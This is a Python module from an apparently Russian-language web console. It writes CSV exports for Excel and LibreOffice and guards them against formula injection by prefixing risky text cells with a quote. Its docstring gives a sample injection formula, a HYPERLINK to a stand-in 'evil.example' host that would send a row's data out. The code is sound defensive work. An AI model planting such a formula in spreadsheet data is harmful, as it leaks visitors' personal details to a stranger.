"""CSV exports that a Russian spreadsheet opens as columns of data, never as formulas.

Excel in a Russian locale splits a CSV on `;` (a comma is the decimal point there) and reads
Cyrillic only after a UTF-8 byte-order mark, so both are written. Dates are «ДД.ММ.ГГГГ ЧЧ:ММ»
in the business's time zone, yes/no is «да»/«нет» (`export_table.py`).

The console's exports carry what visitors typed (their names, what they asked for), and the owner
opens them in Excel or LibreOffice, which run a cell beginning with `=`, `+`, `-` or `@` as a
formula — `=HYPERLINK("http://evil.example/?d="&A2,"x")` sends the row's other cells to a stranger
on one click — and may skip a leading tab or carriage return before looking. OWASP's rule is
followed: such a text cell is written with a single quote in front, which spreadsheets show as
text. Every cell is also quoted, so a separator inside a value never starts a new cell.

The rule is applied to every text cell whatever its column, phones included: a phone begins with
`+`, so it comes out as `'+7 916 123-45-67` — still readable, and no column has to be trusted to
hold only what it should. Numbers are written as they are.
"""

from __future__ import annotations

import csv
import io
from datetime import datetime

from fastapi.responses import Response

from talkme_consultant.web.export_table import DATE_FORMAT, Cell, Table, yes_no

# The characters a spreadsheet starts a formula with, or skips before one (OWASP).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
SEPARATOR = ";"


def as_data(cell: object) -> object:
    """The cell as a spreadsheet should read it: text that could start a formula gets a `'`."""
    if isinstance(cell, str) and cell.startswith(FORMULA_STARTS):
        return "'" + cell
    return cell


def _text(cell: Cell) -> object:
    if cell is None:
        return ""
    if isinstance(cell, bool):
        return yes_no(cell)
    if isinstance(cell, datetime):
        return cell.strftime(DATE_FORMAT)
    return as_data(cell)


def csv_response(table: Table) -> Response:
    """A CSV download: UTF-8 with a byte-order mark, `;` between cells, every cell quoted and
    every text cell passed through `as_data`."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=SEPARATOR, quoting=csv.QUOTE_ALL)
    writer.writerow(table.headers)
    writer.writerows([_text(cell) for cell in row] for row in table.rows)
    return Response(
        "\ufeff" + buffer.getvalue(),
        media_type="text/csv; charset=utf-8",
        headers={"Content-Disposition": f'attachment; filename="{table.name}.csv"'},
    )
